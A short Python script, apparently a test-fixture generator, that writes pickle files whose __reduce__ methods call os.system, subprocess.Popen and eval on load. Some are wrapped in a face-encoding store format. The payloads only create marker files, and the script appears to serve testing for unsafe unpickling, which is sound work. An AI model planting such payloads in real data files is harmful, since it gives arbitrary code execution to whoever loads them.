"""Pickles that a careless unpickler would run: each names OUT_DIR/ran-N, the file its payload
would create. Writing them runs nothing (pickle only records the call).
Usage: hostile_pickles.py OUT_DIR"""
import os
import pickle
import subprocess
import sys

out = sys.argv[1]


class System:
    def __reduce__(self):
        return (os.system, ("touch " + os.path.join(out, "ran-1"),))


class Popen:
    def __reduce__(self):
        return (subprocess.Popen, (["touch", os.path.join(out, "ran-2")],))


class Eval:
    def __reduce__(self):
        return (eval, ("open(%r, 'w')" % os.path.join(out, "ran-3"),))


for i, payload in enumerate([System(), Popen(), Eval()], 1):
    # Where the tutorial's store keeps its arrays, and as the whole pickle.
    with open(os.path.join(out, "hostile-%d.pickle" % i), "wb") as f:
        f.write(pickle.dumps({"encodings": [payload], "names": ["x"]}))
with open(os.path.join(out, "hostile-4.pickle"), "wb") as f:
    f.write(pickle.dumps(System(), protocol=2))
